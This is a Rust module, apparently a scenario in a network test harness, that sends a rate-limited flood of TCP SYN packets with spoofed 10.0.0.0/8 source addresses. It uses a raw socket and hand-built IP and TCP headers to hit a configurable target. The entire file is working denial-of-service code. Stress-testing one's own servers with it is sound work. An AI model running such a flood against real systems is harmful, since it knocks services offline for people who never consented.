//! A flood of SYNs whose senders do not exist.

use super::pattern::mix;
use super::say;
use anyhow::{Context as _, Result};
use serde_json::json;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

/// Arguments.
#[derive(clap::Args)]
pub struct Options {
    /// The virtual server.
    #[arg(long)]
    target: SocketAddrV4,
    /// SYNs a second.
    #[arg(long, default_value_t = 2000)]
    rate: u64,
    /// SYNs in all.
    #[arg(long, default_value_t = 10_000)]
    count: u64,
}

/// Packets are sent in bursts, so often.
const BURST: Duration = Duration::from_millis(5);
/// `IPPROTO_RAW`: the IP header is ours.
const RAW: i32 = 255;
const IP_HEADER: usize = 20;

/// Sends them all and says `{"event":"done","sent"}`.
pub fn run(options: &Options) -> Result<()> {
    let socket =
        Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).context("a raw socket (needs root)")?;
    let to: SockAddr = options.target.into();
    let begun = Instant::now();
    let mut sent = 0;
    while sent < options.count {
        let due = (begun.elapsed().as_millis() as u64 * options.rate / 1000).min(options.count);
        for number in sent..due {
            socket.send_to(&syn(number, options.target), &to).context("sending a SYN")?;
        }
        sent = due;
        std::thread::sleep(BURST);
    }
    say(&json!({ "event": "done", "sent": sent }))
}

/// A SYN of a stranger in 10.0.0.0/8, each of another.
fn syn(number: u64, to: SocketAddrV4) -> [u8; 2 * IP_HEADER] {
    let drawn = mix(number);
    let from = Ipv4Addr::from(0x0a00_0000 | (drawn as u32 & 0x00ff_ffff));
    let mut packet = [0; 2 * IP_HEADER];
    // The kernel fills in the identification and the checksum of the header.
    packet[0] = 0x45;
    packet[3] = packet.len() as u8;
    (packet[8], packet[9]) = (64, 6);
    packet[12..16].copy_from_slice(&from.octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let port = 1024 + (drawn >> 32) as u16 % 60_000;
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&(drawn as u32).to_be_bytes());
    // Five words of header, SYN, a window.
    (packet[32], packet[33]) = (5 << 4, 2);
    packet[34..36].copy_from_slice(&8192u16.to_be_bytes());
    // RFC 9293: the pseudo-header is the addresses, the protocol and the length.
    let words = packet[12..].as_chunks::<2>().0.iter().map(|&word| u32::from(u16::from_be_bytes(word)));
    let sum = words.sum::<u32>() + 6 + IP_HEADER as u32;
    let folded = (sum & 0xffff) + (sum >> 16);
    let checksum = !((folded & 0xffff) + (folded >> 16)) as u16;
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}
